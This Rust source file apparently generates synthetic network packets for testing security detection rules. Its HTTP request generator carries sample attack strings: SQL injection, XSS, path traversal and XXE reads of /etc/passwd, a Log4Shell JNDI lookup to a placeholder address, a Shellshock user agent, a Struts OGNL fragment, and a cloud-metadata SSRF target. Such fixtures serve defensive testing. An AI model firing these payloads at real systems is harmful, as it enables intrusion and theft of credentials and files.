//! What `TrendMicroDsPacketData` holds: HTTP requests with everything that browsers and attackers put into
//! them, TLS and DNS, and bytes that are nothing.

use std::net::IpAddr;

use super::fleet::{private_address, public_address};
use super::random::Random;

/// What kind of traffic a rule looks at.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) enum Traffic {
    #[default]
    Http,
    Tls,
    Dns,
    Binary,
}

pub(crate) struct Packet {
    pub(crate) bytes: Vec<u8>,
    /// The addresses in X-Forwarded-For, left to right.
    pub(crate) forwarded_for: Vec<IpAddr>,
}

impl Packet {
    pub(crate) fn new(traffic: Traffic, random: &mut Random) -> Self {
        let bytes = match traffic {
            Traffic::Http => return http(random),
            Traffic::Tls => tls_client_hello(random),
            Traffic::Dns => dns_query(random),
            Traffic::Binary => binary(random),
        };
        Self { bytes, forwarded_for: Vec::new() }
    }

    /// Standard base64 with padding.
    pub(crate) fn base64(&self) -> String {
        base64_simd::STANDARD.encode_to_string(&self.bytes)
    }
}

const HOSTS: [&str; 4] = ["app.example.com", "www.example.com", "api.example.co.jp", "shop.example.net:8080"];

/// Method and target of requests that rules catch.
const TARGETS: [(&str, &str); 20] = [
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"),
    ("GET", "/_vti_bin/owssvr.dll?UL=1&ACT=4&BUILD=6254&STRMVER=4&CAPREQ=0"),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    ("GET", "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("GET", "/?x=${jndi:ldap://198.51.100.7:1389/a}"),
    ("GET", "/wp-admin/setup.php"),
    ("GET", "/api/v1/companies?limit=50&q=a%20b"),
    ("GET", "/deals"),
    ("GET", "/phpmyadmin/index.php?lang=en"),
    ("POST", "/login"),
    ("POST", "/api/v1/orders"),
    ("POST", "/struts2-showcase/integration/saveGangster.action"),
    ("POST", "/xmlrpc.php"),
    ("PUT", "/uploads/shell.jsp/"),
    ("HEAD", "/"),
    ("OPTIONS", "*"),
    ("PROPFIND", "/webdav/"),
    ("GET", "http://www.example.com/proxy?url=http://169.254.169.254/latest/meta-data/"),
    ("GET", "/%E6%A4%9C%E7%B4%A2?q=%E6%9D%B1%E4%BA%AC"),
];

pub(crate) const USER_AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/4.0 (compatible; MS FrontPage 6.0)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
];

const BODIES: [&str; 4] = [
    "username=admin&password=%27+OR+1%3D1--&remember=on",
    "{\"items\":[{\"sku\":\"A-100\",\"count\":2}],\"comment\":\"<script>alert(1)</script>\"}",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "name=%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
];

fn http(random: &mut Random) -> Packet {
    let (method, target) = random.pick(&TARGETS);
    let mut text = format!("{method} {target} HTTP/1.1\r\n");
    let mut header = |name: &str, value: &str| text.push_str(&format!("{name}: {value}\r\n"));
    header("Host", random.pick(&HOSTS));
    header("User-Agent", random.pick(&USER_AGENTS));
    header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
    header("Accept-Language", random.pick(&["ja,en-US;q=0.7,en;q=0.3", "en-US,en;q=0.5"]));
    let forwarded_for = if random.chance(0.5) { forwarded_for(random) } else { Vec::new() };
    if !forwarded_for.is_empty() {
        let list: Vec<String> = forwarded_for.iter().map(IpAddr::to_string).collect();
        header("X-Forwarded-For", &list.join(", "));
    }
    if random.chance(0.6) {
        let name = random.pick(&["Cookie", "Cookie", "cookie"]);
        header(name, &format!("_session={}; theme=dark; lang=ja", random.hex(12).to_lowercase()));
    }
    if random.chance(0.15) {
        header("Authorization", &format!("Bearer eyJhbGciOiJIUzI1NiJ9.{}", random.hex(16)));
    }
    if random.chance(0.3) {
        header(
            "Referer",
            random.pick(&["https://www.example.com/deals", "http://app.example.com/login?next=/"]),
        );
    }
    if matches!(method, "POST" | "PUT") {
        let body = random.pick(&BODIES);
        header("Content-Type", random.pick(&["application/x-www-form-urlencoded", "application/json"]));
        header("Content-Length", &body.len().to_string());
        text.push_str("\r\n");
        text.push_str(body);
    } else {
        text.push_str("\r\n");
    }
    let mut bytes = text.into_bytes();
    // Overflow attempts fill the packet with one letter.
    if random.chance(0.7) {
        let length = random.between(100, 800) as usize;
        bytes.extend(std::iter::repeat_n(random.pick(b"xA"), length));
    }
    Packet { bytes, forwarded_for }
}

/// Client first, proxies behind it; what stands in front of the client is anybody's word.
fn forwarded_for(random: &mut Random) -> Vec<IpAddr> {
    let mut list = Vec::new();
    if random.chance(0.2) {
        list.push(public_address(random));
    }
    list.push(public_address(random));
    for _ in 0..random.below(3) {
        list.push(private_address(random));
    }
    list
}

/// The head of an IPv4 packet (RFC 791), a few bytes that mean nothing, and zeros.
fn binary(random: &mut Random) -> Vec<u8> {
    let mut bytes = b"\x45\x00\x00\x34\x1c\x46\x40\x00\x40\x06".to_vec();
    let length = random.between(8, 24) as usize;
    bytes.extend(random.bytes(length));
    bytes.resize(bytes.len() + random.index(60), 0);
    bytes
}

/// A ClientHello (RFC 8446) with a server name; lengths are right.
fn tls_client_hello(random: &mut Random) -> Vec<u8> {
    let mut entry = vec![0];
    push_block(&mut entry, b"secure.example.com");
    let mut names = Vec::new();
    push_block(&mut names, &entry);
    let mut extension = vec![0, 0];
    push_block(&mut extension, &names);
    let mut hello = vec![3, 3];
    hello.extend(random.bytes(32));
    hello.push(0);
    push_block(&mut hello, &[0x13, 0x01, 0x13, 0x02, 0xC0, 0x2F, 0xC0, 0x30]);
    hello.extend([1, 0]);
    push_block(&mut hello, &extension);
    let mut handshake = vec![1, 0];
    push_block(&mut handshake, &hello);
    let mut record = vec![0x16, 3, 1];
    push_block(&mut record, &handshake);
    record
}

/// Appends a block behind its length in two bytes.
fn push_block(out: &mut Vec<u8>, block: &[u8]) {
    out.extend((block.len() as u16).to_be_bytes());
    out.extend_from_slice(block);
}

/// A query (RFC 1035) for an address.
fn dns_query(random: &mut Random) -> Vec<u8> {
    let mut query = random.bytes(2);
    query.extend([1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    let host = format!("c{:x}", random.below(1 << 32));
    for label in [host.as_str(), "tunnel", "example", "com"] {
        query.push(label.len() as u8);
        query.extend(label.bytes());
    }
    query.extend([0, 0, 1, 0, 1]);
    query
}
